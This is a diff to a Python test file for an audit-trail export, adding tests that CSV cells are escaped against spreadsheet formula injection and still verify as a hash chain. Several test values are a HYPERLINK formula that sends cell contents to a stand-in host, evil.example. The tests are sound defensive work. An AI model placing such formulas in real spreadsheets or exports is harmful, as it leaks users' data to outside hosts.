@@ -17,8 +17,9 @@ import orjson
 import pytest
 
 from gateway.audit import FIELDS, GENESIS_HASH, AuditTrail, parse_time_bound, verify_records
-from gateway.audit.export import CHUNK_SIZE
+from gateway.audit.export import CHUNK_SIZE, csv_cell, csv_value
 from gateway.audit.record import build_record, encode_record, format_time
+from gateway.audit.verify import iter_csv_records, iter_export_records
 from gateway.state import StateStore, open_store
 from tests.unit.audit.conftest import FakeClock, export_bytes, stored_records
 
@@ -63,17 +64,36 @@ async def test_csv_export_parses_back(trail: AuditTrail, store: StateStore, cloc
     assert reader.fieldnames == list(FIELDS)
     rows = list(reader)
     records = await stored_records(store, "acme")
-    assert len(rows) == len(records)
-    for row, rec in zip(rows, records, strict=True):
-        back: dict[str, Any] = {f: (row[f] if row[f] != "" else None) for f in FIELDS}
-        back["seq"] = int(row["seq"])
-        back["details"] = json.loads(row["details"])
-        expected = {f: (rec[f] if rec[f] != "" else None) for f in FIELDS}  # "" and null share a cell
-        assert back == expected
-    # Re-assembled from CSV, the chain still verifies (the empty request_id excepted).
-    assert verify_records([dict(r, seq=int(r["seq"]), details=json.loads(r["details"])) | {
-        f: None for f in ("actor", "request_id", "incident") if r[f] == ""
-    } for r in rows[:2]]).ok  # fmt: skip
+    assert [row["request_id"] for row in rows] == ["r-1", "", "'"]  # null empty, "" marked
+    # The formula-safe mark undone and seq/details read as JSON: the stored records exactly, so
+    # the whole chain verifies from the CSV (Appendix C: verify --file reads CSV exports).
+    assert list(iter_csv_records(io.BytesIO(data))) == records
+    assert verify_records(iter_export_records(io.BytesIO(data))).ok
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        (
+            '=HYPERLINK("https://evil.example/?"&A1,"click")',
+            '\'=HYPERLINK("https://evil.example/?"&A1,"click")',
+        ),
+        ("+1+2", "'+1+2"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("'quoted", "''quoted"),  # the mark itself: so that undoing it is unambiguous
+        ("", "'"),  # an empty string, apart from null
+        (None, ""),
+        ("alice", "alice"),
+        ("a=b", "a=b"),
+        (12, "12"),
+    ],
+)
+def test_csv_cells_are_formula_safe_and_invertible(value: Any, cell: str) -> None:
+    assert csv_cell(value) == cell
+    assert csv_value(cell) == (None if value is None else str(value))
 
 
 async def test_xml_export_parses_back(trail: AuditTrail, store: StateStore, clock: FakeClock) -> None:
@@ -275,3 +295,22 @@ async def test_spooled_time_is_kept_in_export(trail: AuditTrail, store: StateSto
     await trail.record("e", tenants=["acme"], actor="a")
     (rec,) = await stored_records(store, "acme")
     assert orjson.loads(await export_bytes(trail, "acme"))[0]["time"] == rec["time"]
+
+
+async def test_a_formula_actor_is_exported_as_text_and_the_csv_still_verifies(
+    trail: AuditTrail, clock: FakeClock
+) -> None:
+    """Issue 14: a ``sub`` chosen by another tenant's IdP lands in this tenant's trail
+    (tenant.mismatch) and must not run as a formula in the victim's spreadsheet."""
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"open")'
+    await trail.record("tenant.mismatch", tenants=["acme"], actor=formula, details={"claimed": "-1"})
+    clock.advance(1)
+    await trail.record("auth.login", tenants=["acme"], actor="'already quoted", details={})
+    data = await export_bytes(trail, "acme", fmt="csv")
+    rows = list(csv.DictReader(io.StringIO(data.decode(), newline="")))
+    assert rows[0]["actor"] == "'" + formula and rows[1]["actor"] == "''already quoted"
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values())
+    assert verify_records(iter_export_records(io.BytesIO(data))).ok
+    tampered = data.replace(b"auth.login", b"auth.logout")
+    result = verify_records(iter_export_records(io.BytesIO(tampered)))
+    assert not result.ok and "hash" in (result.problem or "")
